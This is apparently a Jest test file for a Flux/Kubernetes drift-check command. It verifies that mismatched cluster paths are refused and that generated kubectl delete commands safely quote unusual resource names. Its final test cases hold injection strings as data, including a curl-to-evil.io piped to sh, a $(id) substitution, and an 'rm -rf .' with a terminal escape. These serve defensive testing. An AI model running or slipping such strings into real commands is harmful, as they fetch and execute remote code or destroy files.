// What is said of a cluster that answers something odd: that it is another one, and names that a shell or a terminal would obey.
import { describe, expect, test } from '@jest/globals';
import { clusterDrift } from '../../../commands/drift/cluster.ts';
import type { KubeObject } from '../../../render/rendered.ts';

const kinds = ['kustomizations.kustomize.toolkit.fluxcd.io', 'roles.rbac.authorization.k8s.io'];

const kustomization = (path: string, namespace = 'cluster-config'): KubeObject => ({
  apiVersion: 'kustomize.toolkit.fluxcd.io/v1',
  kind: 'Kustomization',
  metadata: { name: 'shop', namespace },
  spec: { path },
});

/** What is found in a cluster that holds these, by someone who asks for the cluster "live". */
const found = (kustomizations: readonly KubeObject[], applied: readonly KubeObject[] = []) =>
  clusterDrift('live', kustomizations, {
    kinds: () => Promise.resolve(kinds),
    read: (_kinds, selector) =>
      Promise.resolve({ objects: selector === undefined ? kustomizations : applied, forbidden: [] }),
  });

describe('the cluster is the one that was named:', () => {
  test.each(['./dist/live/flux', 'dist/live/apps/shop', '/dist/live/apps/shop/'])('%s', async (path) => {
    expect(await found([kustomization(path), kustomization('./elsewhere')])).toEqual({ findings: [], unread: [] });
  });

  test.each([
    ['another one', [kustomization('./dist/pilot/apps/shop')], 'apply dist/pilot/, not dist/live/ alone'],
    [
      'one that another cluster reaches into',
      [kustomization('./dist/live/flux'), kustomization('./dist/pilot/flux')],
      'apply dist/live/, dist/pilot/, not dist/live/ alone',
    ],
    ['one whose name begins alike', [kustomization('./dist/live-2/flux')], 'apply dist/live-2/'],
    ['one that another one holds the path of', [kustomization('./dist/live/../pilot/flux')], 'apply dist/pilot/'],
    ['one where Flux applies nothing of the fleet', [], 'apply nothing of dist/'],
    [
      'one where somebody else applies it',
      [kustomization('./dist/live/flux', 'flux-system')],
      'apply nothing of dist/',
    ],
  ])('%s is refused', async (_name, kustomizations, words) => {
    await expect(found(kustomizations)).rejects.toThrow(words);
    await expect(found(kustomizations)).rejects.toThrow('give the file of live by --kubeconfig');
  });
});

describe('a command to be pasted does with an odd name what it does with any other:', () => {
  const write = async (name: string): Promise<string | undefined> => {
    const role = {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'Role',
      metadata: { name, namespace: 'shop', labels: {} },
    };
    const { findings } = await found([kustomization('./dist/live/flux')], [role]);
    return findings[0]?.write.split(', if nobody')[0];
  };
  const before = 'kubectl delete --namespace=shop';

  test.each([
    ['system:node-reader', 'role.v1.rbac.authorization.k8s.io/system:node-reader'],
    ['x;curl${IFS}evil.io|sh;#', "'role.v1.rbac.authorization.k8s.io/x;curl${IFS}evil.io|sh;#'"],
    ["x'$(id)'", String.raw`'role.v1.rbac.authorization.k8s.io/x'\''$(id)'\'''`],
    ['x\nrm -rf .\u001b[2K', String.raw`'role.v1.rbac.authorization.k8s.io/x\u{a}rm -rf .\u{1b}[2K'`],
  ])('%j', async (name, word) => {
    expect(await write(name)).toBe(`${before} ${word}`);
  });
});
